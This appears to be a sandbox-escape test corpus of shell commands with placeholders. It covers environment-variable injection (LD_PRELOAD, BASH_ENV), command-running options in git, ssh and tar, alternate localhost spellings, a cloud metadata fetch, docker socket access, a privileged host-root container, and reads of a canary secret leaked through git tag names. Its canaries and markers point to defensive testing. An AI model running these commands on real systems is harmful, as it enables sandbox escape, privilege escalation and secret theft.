### variables that programs start from
export BASH_ENV=@file@ ENV=@file@ PROMPT_COMMAND='touch @marker@' LD_PRELOAD=@file@ LD_AUDIT=@file@ GCONV_PATH=/tmp NODE_OPTIONS='--require @file@' PYTHONSTARTUP=@file@ PERL5OPT='-Mlib=@file@' RUBYOPT='-r@file@' GIT_SSH_COMMAND='touch @marker@' GIT_EXTERNAL_DIFF='touch @marker@' GIT_PAGER='touch @marker@' PAGER='touch @marker@' EDITOR='touch @marker@' LESSOPEN='|touch @marker@' MANPAGER='touch @marker@' KUBECTL_EXTERNAL_DIFF='touch @marker@'
export 'BASH_FUNC_ls%%=() { touch @marker@; }' SHELLOPTS=xtrace PS4='$(touch @marker@)'
bash -c ls; sh -c ls; git log; man ls; less f; x=$(echo a | awk 1) y=$(echo a | sed p) z=$(echo 1 | jq .) w=$(sort <<< b); git tag "$x" "$y" "$z" "$w"

### builtins that load or start what they are named
enable -f @file@ x; hash -p @file@ ls; ls; history -r @file@; history -w @marker@; HISTFILE=@marker@; history -a; fc -s; complete -C 'touch @marker@' y; compgen -C 'touch @marker@' y; bind -x '"a": touch @marker@'; x=$(compgen -A file @file@ | cat) y=$(compgen -W '$(cat @file@)')
mapfile -C 'touch @marker@;' -c 1 z <<< a; trap 'touch @marker@' USR1; kill -USR1 $$; exec -a x touch @marker@; coproc touch @marker@; git tag "$x" "$y"

### options that start another program
git -c core.sshCommand='touch @marker@' fetch a; git -c core.fsmonitor='touch @marker@' status; git -c alias.x='!touch @marker@' x; git clone 'ext::sh -c touch% @marker@' c; git grep --open-files-in-pager='touch @marker@' a; git rebase --exec 'touch @marker@' a; git bisect run touch @marker@; git config --global core.hooksPath @marker@
ssh -o ProxyCommand='touch @marker@' a; scp -S 'touch @marker@' a b:; rsync -e 'touch @marker@' a b:; tar -xf a --to-command='touch @marker@'; tar -cf a b -I 'touch @marker@'; wget --use-askpass=@marker@ a; curl -K @file@; man -P 'touch @marker@' ls; find . -ok touch @marker@ \; ; watch touch @marker@; split --filter='touch @marker@' a; rg --pre 'touch @marker@' a; kubectl --kubeconfig @file@ get pods; helm --post-renderer @file@ template a; docker run -v /:/host --privileged a; make -f @file@; vim -c ':!touch @marker@'; sqlite3 a '.shell touch @marker@'; psql -c '\! touch @marker@'

### addresses that are spelt otherwise
exec {fd}<> /dev/tcp/127.0.0.1/@port@ && git tag "$fd"
for host in 2130706433 0x7f000001 0177.0.0.1 127.1 0 [::1] ::ffff:127.0.0.1 localhost. ip6-localhost $'127.0.0.1\n' 127。0。0。1; do
(echo > /dev/tcp/$host/@port@) && git tag "open-$host"
x=$(curl -s "http://$host:@port@/") && git tag "$x"
done
curl -s gopher://127.0.0.1:@port@/_x; curl dict://127.0.0.1:@port@/; curl file://@file@; curl telnet://127.0.0.1:@port@; curl http://[::ffff:7f00:1]:@port@/; curl --resolve a:@port@:127.0.0.1 http://a:@port@/; curl -x 127.0.0.1:@port@ http://a/; curl http://169.254.169.254/latest/meta-data/; all_proxy=127.0.0.1:@port@ curl http://a/

### sockets that are files
x=$(curl -s --unix-socket /var/run/docker.sock http://a/containers/json) y=$(socat - UNIX-CONNECT:/var/run/docker.sock) z=$(nc -U /var/run/docker.sock) w=$(docker -H unix:///var/run/docker.sock ps)
socat - ABSTRACT-CONNECT:a; gdbus call --system -d a; systemctl status; journalctl -f; loginctl; ssh-add -l; x11vnc; tmux -S /tmp/a attach; git tag "$x" "$y" "$z" "$w"

### a core that is dumped and signals that are sent | session: iterations
ulimit -c unlimited; ulimit -t unlimited; ulimit -a
bash -c 'kill -SEGV $$'; bash -c 'kill -ABRT $$'; (kill -STOP $BASHPID) & kill -CONT %1; disown -a; setsid sleep 99 & nohup sleep 99 & trap '' TERM INT HUP QUIT; (trap '' TERM; while :; do sleep 9; done) &

### clocks and chances that differ every time
x=$RANDOM y=$SRANDOM z=$EPOCHREALTIME w=$SECONDS v=$(date +%s%N) u=$(mktemp -u) t=$BASHPID s=$LINENO r=$(awk 'BEGIN { srand(); print rand() }') q=$(shuf -i 1-99999 -n 1) p=$(jq -n now) o=$(uuidgen) n=$(printf '%(%s)T' -1)
git tag "at-$x-$y-$z-$w-$v-$u-$t-$s-$r-$q-$p-$o-$n"
while [ $((RANDOM % 2)) = 1 ]; do git tag "$RANDOM"; done

### evaluated programs that ask for the machine
x=$(echo a | awk '{ print ENVIRON["CANARY_SECRET"] PROCINFO["pid"]; "cat @file@" | getline y; print y; while (("ls /" | getline z) > 0) print z }')
y=$(jq -n '$ENV.CANARY_SECRET, env.CANARY_FILE, input_filename, $__prog_args, $__loc__, (input_line_number), ("@file@" | @sh), ltrimstr("a"), halt_error') z=$(echo '{}' | jq --slurpfile a @file@ '$a' 2>&1) w=$(echo '{}' | jq 'import "@file@" as $f; $f') v=$(echo a | sed 'e cat @file@') u=$(echo a | sed -n '$r @file@') t=$(echo a | grep -f @file@ a) s=$(sort --files0-from=@file@) r=$(echo "constructor.constructor('return process')()" | jq -R .) q=$(sed --file=@file@ <<< a) p=$(awk -f @file@ <<< a)
git tag "$x" "$y" "$z" "$w" "$v" "$u" "$t" "$s" "$r" "$q" "$p"
